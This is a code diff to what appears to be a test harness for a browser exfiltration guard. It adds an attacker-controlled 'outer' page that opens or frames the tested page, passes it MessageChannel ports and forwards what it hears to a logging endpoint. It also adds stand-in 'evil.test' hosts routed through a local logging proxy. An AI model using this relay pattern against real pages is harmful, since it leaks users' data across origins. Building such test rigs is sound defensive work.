@@ -25,13 +25,40 @@ const FILES = {
   "/idle.js": [SCRIPT, `onmessage = ({ data }) => postMessage(data);`],
 };
 
+/** A name of the attacker's, of one run; a browser that asks it, asks `Site`'s proxy. */
+const rpOf = (id) => `run${id}.evil.test`;
+
+/** The attacker's page that opens the page or has it in a frame, sends it a port now and then, and passes on what it hears. */
+const outer = (by, url) => `<!doctype html><link rel="icon" href="data:,"><title>outer</title><body><script>
+  const told = (what) => void fetch("/told?" + encodeURIComponent(JSON.stringify(what)), { mode: "no-cors" });
+  onmessage = ({ data, source }) => {
+    if (data === "port") give(source);
+    else told(data);
+  };
+  const give = (to) => {
+    const { port1, port2 } = new MessageChannel();
+    port1.onmessage = ({ data }) => told(data);
+    to.postMessage({ port: port2 }, "*", [port2]);
+  };
+  let inner;
+  if (${JSON.stringify(by)} === "open") inner = open(${JSON.stringify(url)});
+  else {
+    const frame = document.createElement("iframe");
+    frame.src = ${JSON.stringify(url)};
+    document.body.append(frame);
+    inner = frame.contentWindow;
+  }
+  setInterval(() => give(inner), 300);
+</script></body>`;
+
 /** What a script gets beside `evil` and `own`; it is written into the document. */
-function help(evil, own) {
+function help(evil, own, rp) {
   const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
   const { body } = document;
   return {
     evil,
     own,
+    rp,
     socket: evil.replace("http", "ws"),
     port: new URL(evil).port,
     /** What a worker or a frame of its own would run. */
@@ -77,7 +104,7 @@ const page = ({ source, strength, id, evil, own }) => `<!doctype html><html><hea
   const { attack, fetch } = window;
   const init = { __proto__: null, mode: "no-cors", keepalive: true };
   const say = (what) => void fetch("${own}/said/${id}/" + what, init);
-  const tools = (${inScript(help)})("${evil}", "${own}");
+  const tools = (${inScript(help)})("${evil}", "${own}", "${rpOf(id)}");
   const { encodeURIComponent } = window;
   ${strength === "off" ? "" : `installGuard(${JSON.stringify(POLICY)}, { strength: "${strength}" });`}
   say("ran");
@@ -95,10 +122,11 @@ class Run {
   connections = 0;
   datagrams = 0;
   said = [];
-  /** When its document was opened, when it said that the script ran, and that the script was through. */
+  /** When its document was opened, when it said that the script ran, that the script was through, and when it was clicked. */
   opened = Number.POSITIVE_INFINITY;
   ran;
   over;
+  clicked;
   #servers = [];
 
   constructor(script, strength, id) {
@@ -132,6 +160,8 @@ class Run {
   get reached() {
     if (this.requests.length > 0) return "request";
     if (this.datagrams > 0) return "datagram";
+    // A page of the attacker's is there from the start.
+    if (this.script.by) return undefined;
     return this.connections > 0 ? "connection" : undefined;
   }
 
@@ -142,6 +172,8 @@ class Run {
   }
 
   #answer({ method, url }, response) {
+    if (url === "/outer")
+      return void response.writeHead(200, { "Content-Type": HTML }).end(outer(this.script.by, this.url));
     this.requests.push(`${method} ${url}`);
     const any = { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*" };
     const headers = { ...any, "Cache-Control": "no-store" };
@@ -153,12 +185,28 @@ class Run {
 
 export class Site {
   #server;
+  #proxy;
   #runs = [];
+
+  /** For names below `evil.test`, which have no port to tell one run's from another's by. */
+  get proxyScript() {
+    const { port } = new URL(this.#proxy.origin);
+    return `function FindProxyForURL(url, host) {
+      return /\\.evil\\.test$/.test(host) ? "PROXY 127.0.0.1:${port}" : "DIRECT";
+    }`;
+  }
 
   static async start() {
     const site = new Site();
     site.#server = await listen(createServer((request, response) => site.#answer(request, response)));
     site.origin = site.#server.origin;
+    site.#proxy = await listen(
+      createServer().on("connect", ({ url }, socket) => {
+        const [, id] = /^run(\d+)\./i.exec(url) ?? [];
+        site.#runs[id]?.requests.push(`CONNECT ${url}`);
+        socket.destroy();
+      }),
+    );
     return site;
   }
 
@@ -166,13 +214,16 @@ export class Site {
     const run = new Run(script, strength, this.#runs.length);
     this.#runs.push(run);
     await run.listen();
-    run.url = `${this.origin}/run/${run.id}/`;
+    run.own = script.host ? this.origin.replace("127.0.0.1", script.host) : this.origin;
+    run.url = `${run.own}/run/${run.id}/`;
+    run.start = script.by ? `${run.evil}/outer` : run.url;
     return run;
   }
 
   stop() {
     for (const run of this.#runs) run.stop();
     this.#server.stop();
+    this.#proxy.stop();
   }
 
   #answer(request, response) {
@@ -191,8 +242,8 @@ export class Site {
       this.#runs[id].hear(decodeURIComponent(rest));
       response.writeHead(204).end();
     } else if (place === "run" && rest === "") {
-      const { script, strength, evil } = this.#runs[id];
-      send(HTML, page({ source: script.source, strength, id, evil, own: this.origin }));
+      const { script, strength, evil, own } = this.#runs[id];
+      send(HTML, page({ source: script.source, strength, id, evil, own }));
     } else if (place === "run" && rest === "sw.js") {
       send(SCRIPT, `fetch("${this.#runs[id].evil}/worker", { mode: "no-cors" });`);
     } else {
